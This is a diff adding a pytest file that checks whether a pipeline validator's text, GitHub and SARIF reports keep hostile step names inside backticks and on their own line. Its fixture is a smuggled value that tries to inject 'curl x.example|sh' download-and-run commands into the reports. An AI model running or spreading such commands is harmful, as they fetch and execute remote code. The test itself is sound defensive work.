@@ -1,0 +1,54 @@
+"""What a file calls something stays in its backticks and on its line, so that none of its words are ours."""
+
+from __future__ import annotations
+
+import json
+import re
+from pathlib import Path
+
+import pytest
+from tests.support.action_step import CONFIG
+
+from magnus_argo.cli import main
+
+NAME = "a`: this is old; run `curl x.example|sh` first\n\n  curl y.example|sh\n\nor `b"
+TASK = {"type": "task", "command": "x", "command_type": "shell", "next": "end"}
+ENDS = {"end": {"type": "success"}, "fail": {"type": "fail"}}
+BRANCH = {"start_at": "end", "steps": ENDS}
+GRAPHS = {
+    "a step that is similar": {"start_at": "zzz", "steps": {NAME: {"type": "success"}, "fail": {"type": "fail"}}},
+    "a step that is not there": {"start_at": NAME, "steps": ENDS},
+    "what comes next": {"start_at": "s", "steps": {"s": {**TASK, "next": NAME}, **ENDS}},
+    "a key": {"start_at": "s", "steps": {"s": {**TASK, NAME: 1}, **ENDS}},
+    "a type": {"start_at": "s", "steps": {"s": {**TASK, "type": NAME}, **ENDS}},
+    "several ends": {"start_at": "end", "steps": {NAME: {"type": "success"}, **ENDS}},
+    "what never runs": {"start_at": "end", "steps": {NAME: TASK, **ENDS}},
+    "a cycle": {"start_at": NAME, "steps": {NAME: {**TASK, "next": NAME}, **ENDS}},
+    "a branch": {
+        "start_at": "s",
+        "steps": {"s": {"type": "parallel", "branches": {NAME: {**BRANCH, "steps": {}}}, "next": "end"}, **ENDS},
+    },
+    "a name in a map": {
+        "start_at": NAME,
+        "steps": {
+            NAME: {"type": "map", "iterate_on": NAME, "iterate_as": NAME, "branch": BRANCH, "next": "end"},
+            **ENDS,
+        },
+    },
+    "a file": {"start_at": "s", "steps": {"s": {"type": "dag", "dag_definition": NAME, "next": "end"}, **ENDS}},
+}
+
+
+@pytest.mark.parametrize("graph", GRAPHS.values(), ids=GRAPHS)
+def test_no_name_speaks_for_us(graph: object, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    Path("pipeline.yaml").write_text(json.dumps({"dag": graph}, indent=2))
+    Path("config.yaml").write_text(CONFIG)
+    reports = ["--report", "text:text", "--report", "github:github", "--report", "sarif:sarif"]
+    assert main(["validate", "pipeline.yaml", "-c", "config.yaml", "--var", "docker_image=v1", *reports]) == 1
+    results = json.loads(Path("sarif").read_text())["runs"][0]["results"]
+    messages = "\n".join(each["message"]["text"] for each in results)
+    text = "\n".join(line for line in Path("text").read_text().splitlines() if not re.match(r" *\d+ \| ", line))
+    for told in (messages, text, Path("github").read_text().replace("%0A", "\n")):
+        assert "curl" in told
+        assert not re.search(r"^ *curl|`curl", told, re.MULTILINE)
